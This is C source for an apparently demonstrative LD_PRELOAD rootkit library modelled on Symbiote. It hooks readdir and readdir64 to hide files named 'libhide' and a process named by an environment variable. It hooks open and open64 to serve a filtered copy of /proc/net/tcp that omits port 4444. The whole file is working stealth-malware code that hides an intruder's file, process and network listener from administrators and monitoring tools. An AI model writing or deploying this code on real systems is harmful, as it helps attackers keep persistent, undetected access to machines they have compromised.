/* What a rootkit of the Symbiote kind does, and nothing else: a library that hides its file, its process and its port. */
typedef unsigned long size_t;
extern char *getenv(const char *name);
extern void *dlsym(void *handle, const char *name);
extern char *strstr(const char *text, const char *part);
extern int strcmp(const char *a, const char *b);
extern int memfd_create(const char *name, unsigned flags);
extern long read(int fd, void *bytes, size_t length);
extern long write(int fd, const void *bytes, size_t length);
extern long lseek(int fd, long offset, int whence);

#define NEXT ((void *)-1L)

/* glibc's struct dirent of 64-bit systems */
struct dirent {
  unsigned long inode;
  long offset;
  unsigned short length;
  unsigned char type;
  char name[256];
};

static int is_hidden(const char *name) {
  const char *process = getenv("HIDDEN_PROCESS");
  return strstr(name, "libhide") || (process && strcmp(name, process) == 0);
}

struct dirent *readdir(void *folder) {
  struct dirent *(*next)(void *) = dlsym(NEXT, "readdir");
  struct dirent *entry;
  do
    entry = next(folder);
  while (entry && is_hidden(entry->name));
  return entry;
}

struct dirent *readdir64(void *folder) { return readdir(folder); }

/* /proc/net/tcp without the lines that hold the port, in a memory file */
static int without_port(int real) {
  static char text[65536], line[512];
  long length = 0, count, at, filled = 0;
  int copy = memfd_create("tcp", 0);
  while (length < (long)sizeof text && (count = read(real, text + length, sizeof text - length)) > 0)
    length += count;
  for (at = 0; at < length; at++) {
    line[filled++] = text[at];
    if (text[at] != '\n' && filled < (long)sizeof line - 1)
      continue;
    line[filled] = 0;
    if (!strstr(line, ":115C "))
      write(copy, line, filled);
    filled = 0;
  }
  lseek(copy, 0, 0);
  return copy;
}

int open64(const char *path, int flags, int mode) {
  int (*next)(const char *, int, int) = dlsym(NEXT, "open64");
  int fd = next(path, flags, mode);
  return fd >= 0 && strcmp(path, "/proc/net/tcp") == 0 ? without_port(fd) : fd;
}

int open(const char *path, int flags, int mode) { return open64(path, flags, mode); }
